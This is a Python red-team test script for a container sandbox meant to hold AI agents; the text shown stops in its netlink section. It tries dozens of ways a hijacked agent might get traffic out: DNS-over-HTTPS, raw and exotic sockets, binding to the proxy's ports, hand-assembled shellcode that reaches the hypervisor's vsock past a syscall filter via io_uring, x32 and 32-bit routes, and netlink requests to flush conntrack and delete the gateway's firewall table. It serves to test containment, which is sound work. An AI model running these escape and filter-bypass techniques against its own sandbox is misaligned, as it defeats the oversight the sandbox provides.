#!/usr/bin/env python3
"""What a hijacked agent tries, from inside its own container: one file, any uid, no capability, no package.

    python3 attempts.py [--json] [--strict] [--only N5,N8/udp] [--list] [--node IP] [--peer HOST:PORT]... [--service HOST:PORT]...
                        [--witness IP:PORT]... [--name HOST]... [--inbound PORT] [--wait SECONDS]

Without a file, through a shell that only has Python (nothing is written into the pod):

    kubectl exec -i POD -c CONTAINER -- python3 -c 'import sys; t = sys.stdin.read(); exec(compile(t, "attempts", "exec"), \
      {"__name__": "__main__", "SOURCE": t})' --json < attempts.py

One line an attempt, `ID: died|ESCAPED|skipped|broken: detail`; the part of an ID before its slash is a row of docs/threat-model.md.
Exit codes: 0 nothing escaped, 1 something did, 3 an attempt could not be carried out as written, 64 wrong arguments;
--strict: a skipped attempt is a 3 too.

What counts as an escape. A datagram that the kernel took is one. A connection is one when somebody answers it who is not the
gateway (its answers carry `Sidegate-Event`, its certificates are the pod's own authority's), when it is refused by somebody far
away, or when nobody answers an address at which the gateway always does. It errs towards ESCAPED: an answer that a policy allows,
at an address given by --peer, --service or --witness, is reported too; give only what no policy allows.

Nothing here is destructive where it fails, and what it would destroy where it succeeds is this pod's own gate.
Needs Python 3.6; without ctypes or ssl, what needs them is skipped, and said so.
"""
import argparse
import errno
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import time

try:
    import ssl
except ImportError:  # a minimal Python
    ssl = None
try:
    import ctypes
    LIBC = ctypes.CDLL(None, use_errno=True)
except (ImportError, OSError):
    LIBC = None

# --- how an attempt ends ----------------------------------------------------------------------------------------------


class Outcome(Exception):
    def __init__(self, kind, detail):
        Exception.__init__(self, detail)
        self.kind, self.detail = kind, detail


def died(detail):
    raise Outcome("died", detail)


def escaped(detail):
    raise Outcome("ESCAPED", detail)


def skipped(detail):
    raise Outcome("skipped", detail)


ATTEMPTS = []
WAIT_S = 3.0
ATTEMPT_LIMIT_S = 40
GATE = {"capture": 15801, "dns": 15853, "admin": 15890}
PROXY_UIDS = range(1900000000, 2000000000)
FAR = {4: "198.51.100.7", 6: "2001:db8:7::7"}  # documentation addresses: nobody is there, only the gateway answers
INET = {4: socket.AF_INET, 6: socket.AF_INET6}
LOOPBACK = {4: "127.0.0.1", 6: "::1"}
MARK = b"sidegate-redteam"


def attempt(name, families=None):
    """Registers `ROW/name`; with families, once for each as `ROW/name-v4`."""
    def register(function):
        for family in families or [None]:
            full = name if family is None else "%s-v%d" % (name, family)
            ATTEMPTS.append((full, function, [] if family is None else [family]))
        return function
    return register


def why(fault):
    number = getattr(fault, "errno", None)
    return errno.errorcode.get(number, str(fault)) if isinstance(number, int) else (str(fault) or type(fault).__name__)


class Facts:
    """What a shell in the container can know."""
    def __init__(self, options):
        self.options = options
        self.uid = os.getuid()
        self.device = self.gateway = None
        for line in lines("/proc/net/route")[1:]:
            field = line.split()
            if len(field) > 7 and field[1] == "00000000" and int(field[3], 16) & 2:
                self.device, self.gateway = field[0], socket.inet_ntop(socket.AF_INET, struct.pack("<I", int(field[2], 16)))
        self.own = {4: self.source(4), 6: self.source(6)}
        self.nodes = [each for each in [options.node, self.gateway] if each]
        self.proxy_pids = [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and owner(pid) in PROXY_UIDS]
        self.proxy_uid = next((s["uid"] for s in sockets() if s["uid"] in PROXY_UIDS), None)
        self.resolvers = [line.split()[1] for line in lines("/etc/resolv.conf") if line.startswith("nameserver") and len(line.split()) > 1]

    @staticmethod
    def source(family):
        """The address from which packets would leave: connect() of a datagram socket sends nothing."""
        probe = socket.socket(INET[family], socket.SOCK_DGRAM)
        try:
            probe.connect((FAR[family], 9))
            return probe.getsockname()[0]
        except OSError:
            return None
        finally:
            probe.close()


def lines(path):
    try:
        with open(path, errors="replace") as file:
            return file.read().splitlines()
    except OSError:
        return []


def owner(pid):
    for line in lines("/proc/%s/status" % pid):
        if line.startswith("Uid:"):
            return int(line.split()[1])
    return -1


def sockets():
    """Every inet socket of the pod's network: the table is everybody's to read."""
    found = []
    for kind in ("tcp", "tcp6", "udp", "udp6"):
        for line in lines("/proc/net/" + kind)[1:]:
            field = line.split()
            local, remote = (where(each) for each in field[1:3])
            found.append({"kind": kind, "local": local, "remote": remote, "state": int(field[3], 16), "uid": int(field[7])})
    return found


def where(text):
    raw, port = text.split(":")
    words = struct.pack("<%dI" % (len(raw) // 8), *(int(raw[i:i + 8], 16) for i in range(0, len(raw), 8)))
    return socket.inet_ntop(socket.AF_INET if len(words) == 4 else socket.AF_INET6, words), int(port, 16)


# --- connections ------------------------------------------------------------------------------------------------------

REFUSED_HERE = ("EPERM", "EACCES", "EADDRNOTAVAIL", "EINVAL", "ENODEV")


def routed(family):
    """Whether this network has a way out; where it has none the kernel itself says ENETUNREACH."""
    if family == 4:
        return any(f[1] == "00000000" and f[7] == "00000000" for f in (line.split() for line in lines("/proc/net/route")[1:]))
    return any(f[0] == "0" * 32 and f[1] == "00" and not int(f[8], 16) & 0x200 and f[9] != "lo" for f in (line.split() for line in lines("/proc/net/ipv6_route")))


OUR_ANSWERS = (b"sidegate-event", b"sidegate pod ca", b"sidegate")


def dial(host, port, family=None, prepare=None, silence="ESCAPED", proto=0):
    """A connected socket; ends the attempt where there is none. `silence`: what it means that nobody answers."""
    family = family or (6 if ":" in host else 4)
    sock = socket.socket(INET[family], socket.SOCK_STREAM, proto)
    sock.settimeout(WAIT_S if silence == "ESCAPED" else min(1.0, WAIT_S))
    try:
        if prepare:
            prepare(sock)
        sock.connect((host, port))
        sock.settimeout(WAIT_S)
        return sock
    except socket.timeout:
        sock.close()
        raise Outcome(silence, "nobody answers: the SYN went out to %s" % host if silence == "ESCAPED" else "no answer")
    except OSError as fault:
        sock.close()
        refused(fault, family)


def refused(fault, family):
    if why(fault) in REFUSED_HERE or (why(fault) in ("ENETUNREACH", "EHOSTUNREACH") and not routed(family)):
        died("connect: %s" % why(fault))
    escaped("connect: %s, which is not the gateway's to say" % why(fault))


def heard(sock, send, limit=4096):
    """What comes back, up to the end, or to WAIT_S of nothing."""
    answer = b""
    try:
        if send:
            sock.sendall(send)
        while len(answer) < limit:
            piece = sock.recv(limit)
            if not piece:
                break
            answer += piece
    except OSError:
        pass
    finally:
        sock.close()
    return answer


def ours(answer):
    return any(mark in answer.lower() for mark in OUR_ANSWERS)


def judge(answer, whose):
    """An answer that is not the gateway's is an escape."""
    if answer and not ours(answer):
        escaped("%s answers: %r" % (whose, answer[:80]))
    died("refused by the gateway" if answer else "closed without an answer")


def get(host, path="/", headers=()):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (path, host, "".join(h + "\r\n" for h in headers))).encode()


def ask_plain(host, port, send=None, **how):
    judge(heard(dial(host, port, **how), get(host) if send is None else send), "%s:%d" % (host, port))


def ask_tls(host, port, name, send=None, ask=None, **how):
    """TLS that believes anybody: what matters is whose certificate it is. `ask`: PostgreSQL's question before it."""
    if ssl is None:
        skipped("this Python has no ssl")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    sock = dial(host, port, **how)
    try:
        if ask:
            sock.sendall(ask)
            said = sock.recv(1)
            if said != b"S":
                sock.close()
                judge(said.strip(b"N"), "%s:%d" % (host, port))
        secure = context.wrap_socket(sock, server_hostname=name)
    except (OSError, ssl.SSLError) as fault:
        sock.close()
        text = str(fault)
        if "alert" in text.lower() and "access" not in text.lower():
            escaped("%s:%d speaks TLS: %s" % (host, port, text[:80]))
        died("no TLS: %s" % (why(fault) if not isinstance(fault, ssl.SSLError) else text[:60]))
    certificate = secure.getpeercert(binary_form=True) or b""
    if b"Sidegate pod CA" not in certificate:
        secure.close()
        escaped("%s:%d shows a certificate that is not the gateway's" % (host, port))
    judge(heard(secure, get(name or host) if send is None else send), "%s:%d, through the gateway," % (host, port))


def datagram(address, data=MARK, prepare=None, proto=0, kind=socket.SOCK_DGRAM, family=None, send=None):
    """A datagram that the kernel takes has left. Refusals end the attempt's step, not the attempt."""
    family = family or (6 if ":" in address[0] else 4)
    try:
        sock = socket.socket(INET[family], kind, proto)
    except OSError as fault:
        return "socket: %s" % why(fault)
    try:
        sock.settimeout(WAIT_S)
        if prepare:
            prepare(sock)
        (send or (lambda s: s.sendto(data, address)))(sock)
    except OSError as fault:
        return why(fault)
    finally:
        sock.close()
    escaped("the kernel took a datagram for %s port %s" % address[:2])


def all_die(results):
    died(", ".join(sorted(set(results))) or "nothing to try")


# --- N1: TCP ----------------------------------------------------------------------------------------------------------


@attempt("N1/tcp-anywhere", [4, 6])
def tcp_anywhere(facts, family):
    for port in (80, 443, 22, 25, 853, 5432, 8443, 31337):
        sock = dial(FAR[family], port, family)  # nobody is there: connected means captured
        answer = heard(sock, get(FAR[family]))
        if answer and not ours(answer):
            escaped("somebody answers at port %d: %r" % (port, answer[:60]))
    died("captured at every port, refused")


@attempt("N1/public-resolvers-over-https", [4, 6])
def doh(facts, family):
    ask_tls({4: "1.1.1.1", 6: "2606:4700:4700::1111"}[family], 443, "cloudflare-dns.com", get("cloudflare-dns.com", "/dns-query?name=example.com&type=TXT", ["Accept: application/dns-json"]))


@attempt("N1/dns-over-tls", [4])
def dot(facts, family):
    ask_tls("9.9.9.9", 853, "dns.quad9.net", b"\0\x10" + MARK)


@attempt("N1/multipath-tcp", [4, 6])
def mptcp(facts, family):
    try:
        socket.socket(INET[family], socket.SOCK_STREAM, 262).close()
    except OSError as fault:
        died("socket: %s" % why(fault))
    ask_plain(FAR[family], 80, family=family, proto=262)


@attempt("N1/fast-open", [4, 6])
def fast_open(facts, family):
    sock = socket.socket(INET[family], socket.SOCK_STREAM)
    sock.settimeout(WAIT_S)
    try:
        sock.sendto(get(FAR[family]), 0x20000000, (FAR[family], 80))
    except socket.timeout:
        escaped("the SYN with its data went out")
    except OSError as fault:
        if why(fault) != "EINPROGRESS":
            refused(fault, family)
    if not select.select([], [sock], [], WAIT_S)[1]:
        escaped("the SYN with its data went out")
    code = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
    if code:
        refused(OSError(code, os.strerror(code)), family)
    judge(heard(sock, get(FAR[family])), FAR[family])


@attempt("N1/source-is-loopback", [4, 6])
def source_loopback(facts, family):
    ask_plain(FAR[family], 80, family=family, prepare=lambda s: s.bind((LOOPBACK[family], 0)), silence="died")


@attempt("N1/ipv4-in-ipv6")
def mapped(facts):
    ask_plain("::ffff:" + FAR[4], 80, family=6)


@attempt("N1/reconnected-socket", [4, 6])
def reconnected(facts, family):
    """A captured socket that is dissolved (AF_UNSPEC) and connected again."""
    sock = dial(FAR[family], 80, family)
    if LIBC is None:
        sock.close()
        skipped("this Python has no ctypes")
    LIBC.connect(sock.fileno(), struct.pack("=H14x", socket.AF_UNSPEC), 16)
    try:
        sock.connect((FAR[family], 81))
    except socket.timeout:
        escaped("the second SYN went out")
    except OSError as fault:
        died("connect again: %s" % why(fault))
    judge(heard(sock, get(FAR[family])), FAR[family])


@attempt("N1/urgent-and-empty-segments", [4])
def urgent(facts, family):
    sock = dial(FAR[4], 80)
    try:
        sock.send(b"G", socket.MSG_OOB)
    except OSError:
        pass
    judge(heard(sock, b"ET / HTTP/1.1\r\nHost: x\r\n\r\n"), FAR[4])


# --- N2: which interface ----------------------------------------------------------------------------------------------


def to_device(sock, device):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")


@attempt("N2/bound-to-the-interface-udp", [4, 6])
def bound_udp(facts, family):
    need_device(facts)
    hosts = ["127.0.0.1", "127.9.9.9", "127.0.0.53", FAR[4]] if family == 4 else ["::1", FAR[6]]
    all_die([datagram((host, 8099), prepare=lambda s: to_device(s, facts.device)) for host in hosts])


@attempt("N2/bound-to-the-interface-tcp", [4, 6])
def bound_tcp(facts, family):
    need_device(facts)
    results = []
    for host in (["127.0.0.1", "127.9.9.9", FAR[4]] if family == 4 else ["::1", FAR[6]]):
        try:
            ask_plain(host, 10250, family=family, prepare=lambda s: to_device(s, facts.device), silence="died")
        except Outcome as outcome:
            if outcome.kind != "died":
                raise
            results.append(outcome.detail)
    all_die(results)


@attempt("N2/packet-information", [4, 6])
def pktinfo(facts, family):
    need_device(facts)
    index = socket.if_nametoindex(facts.device)
    control = (0, 8, struct.pack("=i8x", index)) if family == 4 else (41, 50, struct.pack("=16xI", index))
    hosts = ["127.0.0.1", "127.0.0.2", FAR[4]] if family == 4 else ["::1", FAR[6]]
    all_die([datagram((host, 8099), send=lambda s, h=host: s.sendmsg([MARK], [control], 0, (h, 8099))) for host in hosts])


@attempt("N2/unicast-interface-and-no-route", [4, 6])
def unicast_if(facts, family):
    need_device(facts)
    index = socket.if_nametoindex(facts.device)
    level, option = (0, 50) if family == 4 else (41, 76)  # IP_UNICAST_IF, IPV6_UNICAST_IF
    def chosen(sock):
        sock.setsockopt(level, option, struct.pack("!I", index))
    def direct(sock):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
    neighbour = facts.gateway if family == 4 else FAR[6]
    all_die([datagram((LOOPBACK[family], 8099), prepare=chosen) if family == 6 else "", datagram((FAR[family], 443), prepare=chosen), datagram((neighbour or FAR[family], 443), prepare=direct)])


def need_device(facts):
    if facts.device is None:
        died("there is no interface but lo")


# --- N3, N4: the proxy's ports ----------------------------------------------------------------------------------------


def proxy_sockets(kinds):
    return [s for s in sockets() if s["uid"] in PROXY_UIDS and s["kind"] in kinds] or []


@attempt("N3/source-port-of-the-proxy-tcp")
def source_port_tcp(facts):
    """Every connection of the proxy to somewhere else, open or closing: its source port, its destination."""
    known = [s for s in sockets() if s["kind"].startswith("tcp") and s["state"] != 10 and s["local"][1] not in GATE.values()
             and s["remote"][1] != 0 and (s["uid"] in PROXY_UIDS or s["state"] == 6) and not s["remote"][0].startswith(("127.", "::1"))]
    results = []
    for s in known[:16]:
        def same(sock, port=s["local"][1]):
            for option in (2, 15):
                sock.setsockopt(socket.SOL_SOCKET, option, 1)
            sock.bind(("", port))
        try:
            ask_plain(s["remote"][0], s["remote"][1], send=MARK, prepare=same, family=6 if s["kind"] == "tcp6" else 4)
        except Outcome as outcome:
            if outcome.kind != "died" and "EADDRINUSE" not in outcome.detail:
                raise
            results.append(outcome.detail.replace(", which is not the gateway's to say", ""))
    all_die(results or ["no connection of the proxy is seen"])


@attempt("N3/source-port-of-the-proxy-udp", [4, 6])
def source_port_udp(facts, family):
    ports = sorted({s["local"][1] for s in proxy_sockets(("udp", "udp6"))} | {GATE["capture"], GATE["dns"]})
    def bound(sock, port):
        for option in (2, 15):
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        sock.bind(("", port))
    targets = [(FAR[family], 4000)] + [(r, 5353) for r in facts.resolvers if (":" in r) == (family == 6) and not r.startswith("127.") and r != "::1"]
    all_die([datagram(to, prepare=lambda s, p=port: bound(s, p)) for port in ports[:16] for to in targets])


@attempt("N4/bind-the-capture-ports")
def bind_ports(facts):
    """Beside the running proxy: the same address is taken; another address must hear nothing of other containers' traffic."""
    results = []
    for family in (4, 6):
        for kind, port in ((socket.SOCK_STREAM, GATE["capture"]), (socket.SOCK_STREAM, GATE["dns"]), (socket.SOCK_DGRAM, GATE["dns"])):
            for host in (LOOPBACK[family], {4: "0.0.0.0", 6: "::"}[family], facts.own[family]):
                if host is None:
                    continue
                squat = socket.socket(INET[family], kind)
                try:
                    for option in (2, 15):
                        squat.setsockopt(socket.SOL_SOCKET, option, 1)
                    if family == 6:
                        squat.setsockopt(41, 26, 1)
                    squat.bind((host, port))
                    if kind == socket.SOCK_STREAM:
                        squat.listen(4)
                    provoke(family, kind, port)
                    if select.select([squat], [], [], 0.3)[0]:
                        escaped("a squatter at %s port %d hears other traffic" % (host, port))
                    results.append("bound at %s, hears nothing" % host if host == facts.own[family] else "bound, hears nothing")
                except OSError as fault:
                    results.append(why(fault))
                finally:
                    squat.close()
    all_die(results)


def provoke(family, kind, port):
    other = socket.socket(INET[family], kind)
    other.settimeout(0.3)
    try:
        other.connect((FAR[family], 53 if port == GATE["dns"] else 80))
        if kind == socket.SOCK_DGRAM:
            other.send(question("provoke.invalid", 1))
    except OSError:
        pass
    finally:
        other.close()


# --- N5: everything that is not TCP ------------------------------------------------------------------------------------

QUIC = b"\xc0\x00\x00\x00\x01\x08" + MARK[:8] + b"\x00" * 1186


@attempt("N5/udp", [4, 6])
def udp(facts, family):
    targets = [(FAR[family], port) for port in (443, 123, 3478, 4500, 51820, 161, 514, 1)]
    targets += [(node, port) for node in facts.nodes if (":" in node) == (family == 6) for port in (443, 8472, 4789, 10250)]
    all_die([datagram(to) for to in targets])


@attempt("N5/quic", [4, 6])
def quic(facts, family):
    all_die([datagram((FAR[family], 443), QUIC), datagram((FAR[family], 443), QUIC, send=lambda s: (s.connect((FAR[family], 443)), s.send(QUIC)))])


@attempt("N5/multicast-and-broadcast", [4, 6])
def multicast(facts, family):
    scope = "%" + (facts.device or "lo")
    targets = [("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900), ("255.255.255.255", 67)] if family == 4 else [("ff02::fb" + scope, 5353), ("ff02::1" + scope, 9), ("ff05::1:3", 547)]
    def loud(sock):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    if facts.own[4] and family == 4:
        targets.append((facts.own[4].rsplit(".", 1)[0] + ".255", 9))
    all_die([datagram(to, prepare=loud) for to in targets])


@attempt("N5/fragments-and-segments", [4, 6])
def fragments(facts, family):
    """More than one packet: IP fragments (the later ones have no ports), UDP segmentation, pieces that are put together."""
    def segments(sock):
        sock.setsockopt(17, 103, 512)  # UDP_SEGMENT
    def pieces(sock):
        sock.sendto(b"c" * 1000, socket.MSG_MORE, (FAR[family], 443))
        sock.sendto(b"c" * 1000, (FAR[family], 443))
    def no_discovery(sock):
        sock.setsockopt(0 if family == 4 else 41, 10 if family == 4 else 23, 0)
    all_die([datagram((FAR[family], 443), b"f" * 9000, prepare=no_discovery), datagram((FAR[family], 443), b"s" * 4096, prepare=segments), datagram((FAR[family], 443), send=pieces)])


@attempt("N5/ip-options", [4, 6])
def ip_options(facts, family):
    """A loose source route (RFC 791), record route, router alert; IPv6 routing, destination and hop-by-hop headers."""
    if family == 4:
        values = [b"\x83\x07\x04" + socket.inet_aton(facts.gateway or FAR[4]) + b"\0", b"\x07\x07\x04\0\0\0\0\0", b"\x94\x04\0\0"]
        all_die([datagram((FAR[4], 443), prepare=lambda s, v=v: s.setsockopt(0, 4, v)) for v in values])
    values = [(57, struct.pack("!BBBBI", 0, 2, 0, 1, 0) + socket.inet_pton(socket.AF_INET6, FAR[6])), (59, b"\0\0\x01\x04\0\0\0\0"), (54, b"\0\0\x01\x04\0\0\0\0")]
    all_die([datagram((FAR[6], 443), prepare=lambda s, o=o, v=v: s.setsockopt(41, o, v)) for o, v in values])


@attempt("N5/marks-and-priorities", [4, 6])
def marks(facts, family):
    results = []
    for level, option, value in ((1, 36, 0x5347), (1, 12, 7), (0 if family == 4 else 41, 19 if family == 4 else 75, 1), (0, 15, 1)):
        sock = socket.socket(INET[family], socket.SOCK_DGRAM)
        try:
            sock.setsockopt(level, option, value)
            if (level, option) == (1, 36):
                escaped("SO_MARK was accepted: the proxy's flows are told apart by a mark")
            results.append("option %d taken" % option)
            sock.sendto(MARK, (FAR[family], 443))
            escaped("with option %d the kernel took a datagram" % option)
        except OSError as fault:
            results.append("option %d: %s" % (option, why(fault)))
        finally:
            sock.close()
    all_die(results)


PROTOCOLS = (("icmp", socket.SOCK_DGRAM, {4: 1, 6: 58}), ("raw-icmp", socket.SOCK_RAW, {4: 1, 6: 58}), ("raw", socket.SOCK_RAW, 255), ("gre", socket.SOCK_RAW, 47),
             ("esp", socket.SOCK_RAW, 50), ("ipip", socket.SOCK_RAW, 4), ("raw-udp", socket.SOCK_RAW, 17), ("raw-tcp", socket.SOCK_RAW, 6),
             ("sctp", socket.SOCK_STREAM, 132), ("sctp-many", socket.SOCK_SEQPACKET, 132), ("dccp", 6, 33), ("udp-lite", socket.SOCK_DGRAM, 136), ("l2tp", socket.SOCK_DGRAM, 115))


def other_protocol(kind, proto):
    def run(facts, family):
        number = proto[family] if isinstance(proto, dict) else proto
        echo = b"\x08\x00\xf7\xfe\0\x01\0\0" if family == 4 else b"\x80\x00\xf7\xfe\0\x01\0\0"
        try:
            sock = socket.socket(INET[family], kind, number)
        except OSError as fault:
            died("socket: %s" % why(fault))
        sock.settimeout(1.0)
        try:
            if kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, 6):
                sock.connect((FAR[family], 7))
            else:
                sock.sendto(echo, (FAR[family], 0 if number in (1, 58) or kind == socket.SOCK_RAW else 7))
        except socket.timeout:
            escaped("an opening packet went out, unanswered")
        except OSError as fault:
            died(why(fault))
        finally:
            sock.close()
        escaped("the kernel took it")
    return run


for _name, _kind, _proto in PROTOCOLS:
    attempt("N5/" + _name, [4, 6])(other_protocol(_kind, _proto))

FAMILIES = (("packet", 17, socket.SOCK_RAW, 0x0300), ("xdp", 44, socket.SOCK_RAW, 0), ("tipc", 30, socket.SOCK_SEQPACKET, 0), ("rds", 21, socket.SOCK_SEQPACKET, 0),
            ("smc", 43, socket.SOCK_STREAM, 0), ("can", 29, socket.SOCK_RAW, 1), ("bluetooth", 31, socket.SOCK_SEQPACKET, 0), ("x25", 9, socket.SOCK_SEQPACKET, 0),
            ("ax25", 3, socket.SOCK_SEQPACKET, 0), ("pppox", 24, socket.SOCK_STREAM, 0), ("key", 15, socket.SOCK_RAW, 2), ("qipcrtr", 42, socket.SOCK_DGRAM, 0), ("ieee802154", 36, socket.SOCK_DGRAM, 0))


def other_family(family, kind, proto):
    def run(facts):
        try:
            socket.socket(family, kind, proto).close()
        except OSError as fault:
            died("socket: %s" % why(fault))
        if family == 43:  # SMC falls back to TCP, which is captured
            died("made; its first packets are TCP's")
        escaped("a socket of this family can be made, and no rule sees what it sends")
    return run


for _name, _family, _kind, _proto in FAMILIES:
    attempt("N5/family-" + _name)(other_family(_family, _kind, _proto))


NO_TRANSPORT = ("ENODEV", "EADDRNOTAVAIL", "EOPNOTSUPP", "EPERM")


@attempt("N5/family-vsock")
def vsock(facts):
    try:
        sock = socket.socket(40, socket.SOCK_STREAM)
    except OSError as fault:
        died("socket: %s" % why(fault))
    sock.settimeout(1.0)
    try:
        sock.connect((2, 1024))
    except OSError as fault:
        if why(fault) in NO_TRANSPORT:
            died("made, but this machine has no transport: %s; the profile should refuse the socket" % why(fault))
        escaped("the hypervisor is asked: %s" % why(fault))
    escaped("connected to the hypervisor")


# The same socket, asked for so that a filter of system calls may not see its family. A program of one page, made here: it needs no compiler
# and no ctypes, and nothing is written into the pod. Its end says how it went: below 128 the errno of the socket; from 128 on one was made,
# and the rest is the errno of asking host 2, port 1024 by it.
VSOCK_ADDRESS = struct.pack("<HHIII", 40, 0, 1024, 2, 0)  # struct sockaddr_vm
VSOCK_ARGUMENTS = struct.pack("<III", 40, 1, 0)  # of socketcall(2), which the i386 ABI has
BASE = 0x400000


def elf(code):
    """ELF64 for x86-64: one segment, readable and executable; the code begins at BASE + 120."""
    size = 120 + len(code)
    head = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, BASE + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, BASE, BASE, size, size, 0x1000) + code


def vsock_program(ask):
    """`ask` leaves a descriptor or -errno in eax. Then: connect, and exit_group."""
    end = b"\xb8\xe7\0\0\0\x0f\x05"  # mov eax, 231; syscall
    asks = b"\xba\x10\0\0\0\xb8\x2a\0\0\0\x0f\x05\xf7\xd8\x8d\xb8\x80\0\0\0"  # mov edx, 16; mov eax, 42; syscall; neg eax; lea edi, [rax+128]
    made = b"\x89\xc7\x48\x8d\x35" + struct.pack("<i", len(asks) + len(end)) + asks  # mov edi, eax; lea rsi, [rip + address]
    refused = b"\x85\xc0\x79\x06\xf7\xd8\x89\xc7\xeb" + bytes([len(made)])  # test eax, eax; jns made; neg eax; mov edi, eax; jmp end
    return ask + refused + made + end + VSOCK_ADDRESS


def by_socketcall():
    rest = vsock_program(b"")
    place = BASE + 120 + 17 + len(rest)  # mov eax, 102; mov ebx, 1; mov ecx, place; int 0x80: the arguments lie below 4 GiB
    return b"\xb8\x66\0\0\0\xbb\x01\0\0\0\xb9" + struct.pack("<I", place) + b"\xcd\x80" + rest + VSOCK_ARGUMENTS


# A ring of one entry (io_uring(7)); where it cannot be made, its -errno stays in eax.
BY_RING = b"".join((
    b"\x48\x81\xec\0\x01\0\0\xbf\x01\0\0\0\x48\x89\xe6\xb8\xa9\x01\0\0\x0f\x05",  # sub rsp, 256; mov edi, 1; mov rsi, rsp; mov eax, 425; syscall
    b"\x85\xc0\x78\x66\x89\xc3",  # test eax, eax; js past all of this; mov ebx, eax
    b"\x31\xff\xbe\0\x10\0\0\xba\x03\0\0\0\x41\xba\x01\x80\0\0\x41\x89\xd8\x45\x31\xc9",  # xor edi, edi; mov esi, 4096; mov edx, 3; mov r10d, 0x8001; mov r8d, ebx; xor r9d, r9d
    b"\xb8\x09\0\0\0\x0f\x05\x48\x89\xc5",  # mov eax, 9 (mmap); syscall; mov rbp, rax: the rings
    b"\x41\xb9\0\0\0\x10\xb8\x09\0\0\0\x0f\x05",  # mov r9d, IORING_OFF_SQES; mov eax, 9; syscall: the entry
    b"\xc6\0\x2d\xc6\x40\x04\x28\xc6\x40\x08\x01",  # its opcode is IORING_OP_SOCKET, its family 40, its type 1
    b"\x8b\x4c\x24\x2c\xc6\x44\x0d\0\x01",  # mov ecx, [rsp + 44]; mov byte [rbp + rcx], 1: the tail
    b"\x89\xdf\xbe\x01\0\0\0\x89\xf2\x41\x89\xf2\x45\x31\xc0\x45\x31\xc9",  # io_uring_enter(ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0)
    b"\xb8\xaa\x01\0\0\x0f\x05\x8b\x4c\x24\x64\x8b\x44\x0d\x08",  # mov eax, 426; syscall; mov ecx, [rsp + 100]; mov eax, [rbp + rcx + 8]: the result
))

VSOCK_DOORS = (
    ("io-uring", vsock_program(BY_RING)),
    # mov rdi, 2^32 + 40; mov esi, 1; xor edx, edx; mov eax, 41; syscall: the kernel reads the lower half of it
    ("wide-number", vsock_program(b"\x48\xbf" + struct.pack("<Q", (1 << 32) + 40) + b"\xbe\x01\0\0\0\x31\xd2\xb8\x29\0\0\0\x0f\x05")),
    # mov edi, 40; …; mov eax, 2^30 + 41; syscall
    ("x32", vsock_program(b"\xbf\x28\0\0\0\xbe\x01\0\0\0\x31\xd2\xb8\x29\0\0\x40\x0f\x05")),
    # mov ebx, 40; mov ecx, 1; xor edx, edx; mov eax, 359; int 0x80
    ("32-bit", vsock_program(b"\xbb\x28\0\0\0\xb9\x01\0\0\0\x31\xd2\xb8\x67\x01\0\0\xcd\x80")),
    ("32-bit-socketcall", by_socketcall()),
)


def vsock_door(program):
    def run(facts):
        if os.uname().machine != "x86_64" or not hasattr(os, "memfd_create"):
            skipped("known for x86-64 and Python 3.8 only")
        page = os.memfd_create("vsock", 0)
        try:
            os.write(page, elf(program))
            code = subprocess.call(["/proc/self/fd/%d" % page], pass_fds=[page], timeout=10)
        except (OSError, subprocess.TimeoutExpired) as fault:
            died("the program: %s" % why(fault))
        finally:
            os.close(page)
        if code < 0:
            died("ended by signal %d" % -code)
        name = errno.errorcode.get(code % 128, str(code % 128))
        if code < 128:
            died("socket: %s" % name)
        if name in NO_TRANSPORT:
            died("made, but this machine has no transport: %s; the profile should refuse the socket" % name)
        escaped("connected to the hypervisor" if code == 128 else "the hypervisor is asked: %s" % name)
    return run


for _name, _program in VSOCK_DOORS:
    attempt("N5/family-vsock-" + _name)(vsock_door(_program))


# --- N6: rules and namespaces -----------------------------------------------------------------------------------------

NLM_REQUEST, NLM_ACK, NLM_DUMP = 1, 4, 0x300
TABLE = struct.pack("=HH", 4 + len(b"sidegate\0"), 1) + b"sidegate\0\0\0\0"
NFT = {  # name: (type, flags, body after nfgenmsg)
    "list the tables": (0x0A01, NLM_REQUEST | NLM_DUMP, b"\0\0\0\0"),
    "list the rules": (0x0A07, NLM_REQUEST | NLM_DUMP, b"\0\0\0\0"),
    "list conntrack": (0x0101, NLM_REQUEST | NLM_DUMP, b"\x02\0\0\0"),
    "flush conntrack": (0x0102, NLM_REQUEST | NLM_ACK, b"\x02\0\0\0"),
}
BATCH = ((0x10, b"\0\0\0\x0a"), (0x0A02, b"\x01\0\0\0" + TABLE), (0x11, b"\0\0\0\x0a"))


def netlink(kind, messages):
    """The kernel's answer to (type, flags, body)s: an errno's name, `OK`, or how many bytes of data."""
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, kind)
    sock.settimeout(1.0)
    try:
        packed = b"".join(struct.pack("=IHHII", 16 + len(body), number, flags, 7 + i, 0) + body for i, (number, flags, body) in enumerate(messages))
        sock.send(packed)
        answer = sock.recv(65536)
    except socket.timeout:
        return "no answer"
    except OSError as fault:
        return why(fault)
    finally:
        sock.close()
    number, = struct.unpack("=H", answer[4:6])
    if number != 2:
        return "%d bytes of data" % len(answer) if number != 3 else "nothing there"
    code, = struct.unpack("=i", answer[16:20])
    return "OK" if code == 0 else errno.errorcode.get(-code, str(code))


def rules_by_netlink():
    found = {name: netlink(12, [message]) for name, message in NFT.items()}
    found["delete the table"] = netlink(12, [(BATCH[0][0], NLM_REQUEST, BATCH[0][1]), (BATCH[1][0], NLM_REQUEST | NLM_ACK, BATCH[1][1]), (BATCH[2][0], NLM_REQUEST, BATCH[2][1])])
    return found


